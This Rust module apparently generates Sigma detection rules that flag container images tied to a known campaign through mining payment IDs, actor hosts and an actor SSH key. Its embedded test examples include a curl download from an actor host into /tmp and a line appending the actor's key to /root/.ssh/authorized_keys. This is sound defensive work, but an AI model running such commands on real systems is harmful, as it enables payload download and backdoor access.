//! A pack of Sigma rules that catch the campaign's images elsewhere: as they start, in their
//! configuration and in their history. Each carries its examples, so that
//! `lazaret rules check` proves it.

use lazaret_model::Campaign;
use uuid::Uuid;

use super::terms::{self, PackFile, Terms};

/// One rule.
struct Draft<'a> {
    /// Its name after the campaign's.
    name: &'static str,
    title: &'a str,
    found: &'a str,
    technique: &'a str,
    category: &'a str,
    /// Field with modifiers, and the values, any of which is enough.
    selections: Vec<(&'a str, Vec<String>)>,
    level: &'a str,
    confidence: &'a str,
    fires: String,
    quiet: &'a str,
}

/// The files of the pack, by name; none where nothing of the campaign speaks alone.
pub fn files(campaign: &Campaign) -> Vec<PackFile> {
    let terms = terms::of(campaign);
    let slug = terms::slug(campaign);
    let drafts = [
        payment_started(&terms),
        payment_configured(&terms),
        contact_started(&terms),
        contact_made(&terms),
        contact_built(&terms),
        key_written(&terms),
    ];
    let rules = drafts.into_iter().flatten().map(|draft| (draft.name, draft.text(campaign, &slug)));
    terms::pack(&slug, "yml", rules)
}

/// All rules in one stream of YAML documents.
pub fn stream(campaign: &Campaign) -> String {
    let texts: Vec<String> = files(campaign).into_iter().map(|file| file.text).collect();
    texts.join("---\n")
}

/// A program that is given `word`.
fn started(word: &str) -> String {
    format!("ELF /usr/bin/app 0755\n    app\nENTRYPOINT [\"/usr/bin/app\", \"--to\", \"{word}\"]\n")
}

const QUIET_STARTED: &str =
    "ELF /usr/bin/app 0755\n    app\nENTRYPOINT [\"/usr/bin/app\", \"--to\", \"registry.example.org\"]\n";

fn payment_started(terms: &Terms) -> Option<Draft<'static>> {
    Some(Draft {
        name: "payment-at-start",
        title: "earn money for the actor of a known campaign",
        found: "A command that the image starts names where the actor is paid.",
        technique: "t1496.001",
        category: "process_creation",
        fires: started(terms.payment.first()?),
        selections: vec![("CommandLine|contains", contained(&terms.payment))],
        level: "critical",
        confidence: "high",
        quiet: QUIET_STARTED,
    })
}

fn payment_configured(terms: &Terms) -> Option<Draft<'static>> {
    let first = terms.payment.first()?;
    Some(Draft {
        name: "payment-in-configuration",
        title: "carry the payment of a known campaign in its configuration",
        found: "The environment, a label or the command of the image names where the actor is paid.",
        technique: "t1496.001",
        category: "image_config",
        selections: ["Env|contains", "Labels|contains", "CommandLine|contains"]
            .map(|field| (field, contained(&terms.payment)))
            .to_vec(),
        level: "critical",
        confidence: "high",
        fires: format!(
            "ENV POOL_USER={first}\nELF /usr/bin/app 0755\n    app\nENTRYPOINT [\"/usr/bin/app\"]\n"
        ),
        quiet: "ENV POOL_USER=nobody\nELF /usr/bin/app 0755\n    app\nENTRYPOINT [\"/usr/bin/app\"]\n",
    })
}

/// What names a host or an address of theirs, as regular expressions.
fn contacts(terms: &Terms, field: &'static str) -> Vec<(&'static str, Vec<String>)> {
    let hosts = terms.hosts.iter().map(|host| terms::alone(host));
    vec![(field, hosts.chain(terms.urls.iter().map(|url| terms::whole(url))).collect())]
}

fn contact_started(terms: &Terms) -> Option<Draft<'static>> {
    let first = terms.contact()?;
    Some(Draft {
        name: "contact-at-start",
        title: "name a host of a known campaign as it starts",
        found: "A command that the image starts names a host or an address of the actor.",
        technique: "t1105",
        category: "process_creation",
        selections: contacts(terms, "CommandLine|re"),
        level: "high",
        confidence: "medium",
        fires: started(first),
        quiet: QUIET_STARTED,
    })
}

fn contact_made(terms: &Terms) -> Option<Draft<'static>> {
    let first = terms.hosts.first()?;
    let bare = |host: &String| host.parse::<std::net::IpAddr>().is_ok();
    let (addresses, names): (Vec<String>, Vec<String>) = terms.hosts.iter().cloned().partition(bare);
    let mut selections = Vec::new();
    if !names.is_empty() {
        selections.push(("DestinationHostname", names));
    }
    if !addresses.is_empty() {
        selections.push(("DestinationIp", addresses));
    }
    let url = if first.contains(':') { format!("http://[{first}]/a") } else { format!("http://{first}/a") };
    Some(Draft {
        name: "contact",
        title: "connect to a host of a known campaign",
        found: "The image connects to a host of the actor.",
        technique: "t1071",
        category: "network_connection",
        selections,
        level: "high",
        confidence: "medium",
        fires: format!(
            "FILE /start.sh 0755\n    #!/bin/sh\n    curl -fsSL '{url}' -o /tmp/a\nENTRYPOINT [\"/start.sh\"]\n"
        ),
        quiet: "FILE /start.sh 0755\n    #!/bin/sh\n    curl -fsSL 'https://registry.example.org/a' -o /tmp/a\nENTRYPOINT [\"/start.sh\"]\n",
    })
}

fn contact_built(terms: &Terms) -> Option<Draft<'static>> {
    let first = terms.contact()?;
    Some(Draft {
        name: "contact-at-build",
        title: "have been built with a host of a known campaign",
        found: "A step of the history names a host or an address of the actor.",
        technique: "t1105",
        category: "image_history",
        selections: contacts(terms, "CreatedBy|re"),
        level: "high",
        confidence: "medium",
        fires: format!("LAYER RUN /bin/sh -c fetch {first}\nFILE /opt/a\n    a\n"),
        quiet: "LAYER RUN /bin/sh -c fetch registry.example.org\nFILE /opt/a\n    a\n",
    })
}

fn key_written(terms: &Terms) -> Option<Draft<'static>> {
    let first = terms.keys.first()?;
    let script = |key: &str| {
        format!(
            "FILE /start.sh 0755\n    #!/bin/sh\n    echo 'ssh-ed25519 {key}' >> /root/.ssh/authorized_keys\nENTRYPOINT [\"/start.sh\"]\n"
        )
    };
    Some(Draft {
        name: "login-key",
        title: "let in the actor of a known campaign",
        found: "A file that the image writes holds the login key of the actor.",
        technique: "t1098.004",
        category: "file_event",
        selections: vec![("Content|contains", contained(&terms.keys))],
        level: "critical",
        confidence: "high",
        fires: script(first),
        quiet: "FILE /start.sh 0755\n    #!/bin/sh\n    echo 'ssh-ed25519 AAAAexample' >> /root/.ssh/authorized_keys\nENTRYPOINT [\"/start.sh\"]\n",
    })
}

impl Draft<'_> {
    fn text(&self, campaign: &Campaign, slug: &str) -> String {
        let id = Uuid::new_v5(&Uuid::NAMESPACE_URL, format!("lazaret sigma {slug} {}", self.name).as_bytes());
        let technique = self.technique.to_ascii_uppercase();
        let reference = crate::words::attack_url(&technique).unwrap_or_default();
        let mut out = format!(
            "title: {}\nid: {id}\nstatus: experimental\ndescription: {}\nreferences:\n    - {reference}\ntags:\n    - attack.{}\nlogsource:\n    category: {}\n    product: linux\ndetection:\n",
            self.title,
            quoted(&terms::explanation(campaign, self.found)),
            self.technique,
            self.category,
        );
        for (at, (field, values)) in self.selections.iter().enumerate() {
            out.push_str(&format!("    selection{at}:\n        {field}:\n"));
            for value in values {
                out.push_str(&format!("            - {}\n", quoted(value)));
            }
        }
        let names: Vec<String> = (0..self.selections.len()).map(|at| format!("selection{at}")).collect();
        out.push_str(&format!(
            "    condition: {}\nlevel: {}\nlazaret:\n    class: malware\n    confidence: {}\n    examples:\n        fires:\n            - {}\n        quiet:\n            - {}\n",
            names.join(" or "),
            self.level,
            self.confidence,
            quoted(&self.fires),
            quoted(self.quiet),
        ));
        out
    }
}

/// A double-quoted scalar of YAML 1.2. What could act in one is escaped; terms hold nothing else
/// than printable ASCII.
fn quoted(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            ' '..='~' => out.push(c),
            other => out.push_str(&format!("\\U{:08X}", other as u32)),
        }
    }
    out.push('"');
    out
}

/// Values for `contains`, in which Sigma's wildcards are text.
fn contained(values: &[String]) -> Vec<String> {
    values.iter().map(|value| value.replace('\\', "\\\\").replace('*', "\\*").replace('?', "\\?")).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_quoted_stays_one_scalar() {
        assert_eq!(quoted("a\"\\\n- b: \u{85}"), "\"a\\\"\\\\\\n- b: \\U00000085\"");
        assert_eq!(contained(&["http://a.invalid/?x=*".to_owned()]), ["http://a.invalid/\\?x=\\*"]);
        assert_eq!(terms::alone("a.test"), "(^|[^A-Za-z0-9._-])a\\.test($|[^A-Za-z0-9._-])");
    }
}
